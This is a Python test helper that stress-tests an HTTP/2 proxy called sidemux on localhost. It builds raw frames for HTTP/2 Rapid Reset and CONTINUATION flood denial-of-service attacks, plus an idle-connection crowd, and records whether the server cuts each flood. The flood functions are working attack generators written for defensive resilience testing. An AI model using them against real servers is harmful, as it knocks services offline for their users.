"""Hostile connections for the soak's fault rotation: HTTP/2 Rapid Reset
(CVE-2023-44487) and CONTINUATION floods (CVE-2024-28182) built from raw
frames, and a crowd of idle connections.

A flood is cut when sidemux ends the connection (GOAWAY or close) before the
flood is over or within CUT_TIMEOUT_S of it; the outcome says how. Calls on
other connections must not notice any of it.
"""

import select
import socket
import struct
import time

import h2.config
import h2.connection
import hpack

from conftest import FRAME_GOAWAY, H2_PREFACE, parse_frames

HOST = "127.0.0.1"
CUT_TIMEOUT_S = 5.0
FRAME_HEADERS, FRAME_RST_STREAM, FRAME_SETTINGS, FRAME_CONTINUATION = 0x1, 0x3, 0x4, 0x9
FLAG_END_HEADERS = 0x4
GOAWAY_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def _request_block(port, path="/sidemuxtest.Echo/Unary"):
    return hpack.Encoder().encode([(":method", "POST"), (":scheme", "http"), (":path", path),
                                   (":authority", f"{HOST}:{port}"), ("content-type", "application/grpc"),
                                   ("te", "trailers")])


class FloodResult:
    def __init__(self, name):
        self.name = name
        self.sent_frames = 0
        self.cut = None  # "goaway CODE" | "closed" | None (never cut)
        self.seconds = 0.0

    def __repr__(self):
        return f"{self.name}: {self.sent_frames} frames, cut={self.cut}, {self.seconds:.2f}s"


def _watch_for_cut(sock, result, deadline):
    """Read what sidemux sends until it closes or the deadline; sets result.cut."""
    buf = bytearray()
    while time.monotonic() < deadline:
        r, _, _ = select.select([sock], [], [], max(0.0, deadline - time.monotonic()))
        if not r:
            break
        try:
            chunk = sock.recv(65536)
        except (ConnectionResetError, BrokenPipeError):
            chunk = b""
        if not chunk:
            result.cut = result.cut or "closed"
            return
        buf += chunk
        for ftype, _, _, payload in parse_frames(bytes(buf)):
            if ftype == FRAME_GOAWAY and len(payload) >= 8 and result.cut is None:
                code = struct.unpack(">I", payload[4:8])[0]
                result.cut = f"goaway {GOAWAY_CODES.get(code, code)}"
        # keep a partial frame only
        frames = parse_frames(bytes(buf))
        used = sum(9 + len(f[3]) for f in frames)
        del buf[:used]


def _send(sock, data):
    try:
        sock.sendall(data)
        return True
    except (BrokenPipeError, ConnectionResetError):
        return False


def _flood(name, port, batches):
    """Send each batch of bytes (counting frames) until sidemux cuts the connection."""
    result = FloodResult(name)
    t0 = time.monotonic()
    with socket.create_connection((HOST, port), timeout=10) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        _send(sock, H2_PREFACE + frame(FRAME_SETTINGS, 0, 0))
        for nframes, data in batches:
            if not _send(sock, data):
                result.cut = "closed"
                break
            result.sent_frames += nframes
            _watch_for_cut(sock, result, time.monotonic())  # non-blocking look
            if result.cut:
                break
        if not result.cut:
            _watch_for_cut(sock, result, time.monotonic() + CUT_TIMEOUT_S)
    result.seconds = time.monotonic() - t0
    return result


def rapid_reset(port, streams=3000, batch=100):
    """HEADERS (a gRPC request, body never sent) then RST_STREAM(CANCEL), stream after stream."""
    block = _request_block(port)
    pairs = (frame(FRAME_HEADERS, FLAG_END_HEADERS, 2 * i + 1, block) +
             frame(FRAME_RST_STREAM, 0, 2 * i + 1, struct.pack(">I", 8)) for i in range(streams))

    def batches():
        it = iter(pairs)
        for _ in range(0, streams, batch):
            chunk = b"".join(next(it) for _ in range(batch))
            yield 2 * batch, chunk
    return _flood("rapid_reset", port, batches())


def continuation_flood(port, frames=2000, batch=100):
    """One HEADERS without END_HEADERS, then CONTINUATION frames that never end the block."""
    enc = hpack.Encoder()
    first = frame(FRAME_HEADERS, 0, 1, _request_block(port))
    filler = [frame(FRAME_CONTINUATION, 0, 1, enc.encode([(f"x-flood-{i}", "v" * 32)])) for i in range(frames)]

    def batches():
        yield 1, first
        for i in range(0, frames, batch):
            yield batch, b"".join(filler[i:i + batch])
    return _flood("continuation", port, batches())


def idle_connections(port, count, hold_s, on_open=None):
    """Open count connections (half send the HTTP/2 preface and SETTINGS, half nothing),
    call on_open() while they are all open, hold them hold_s seconds, close them all.
    Returns (opened, on_open's result)."""
    socks = []
    try:
        for i in range(count):
            s = socket.create_connection((HOST, port), timeout=10)
            socks.append(s)
            if i % 2 == 0:
                s.sendall(H2_PREFACE + frame(FRAME_SETTINGS, 0, 0))
        seen = on_open() if on_open else None
        time.sleep(hold_s)  # the fault is the connections' presence for this long
        return len(socks), seen
    finally:
        for s in socks:
            s.close()


def h2_ok(port):
    """A fresh HTTP/2 connection still gets a local answer (sidemux is alive after a flood)."""
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    with socket.create_connection((HOST, port), timeout=5) as sock:
        conn.initiate_connection()
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "GET"), (":scheme", "http"), (":path", "/livez"),
                                (":authority", f"{HOST}:{port}")], end_stream=True)
        sock.sendall(conn.data_to_send())
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            data = sock.recv(65536)
            if not data:
                return False
            for ev in conn.receive_data(data):
                if type(ev).__name__ == "ResponseReceived":
                    return dict(ev.headers).get(b":status") == b"200"
            sock.sendall(conn.data_to_send())
    return False
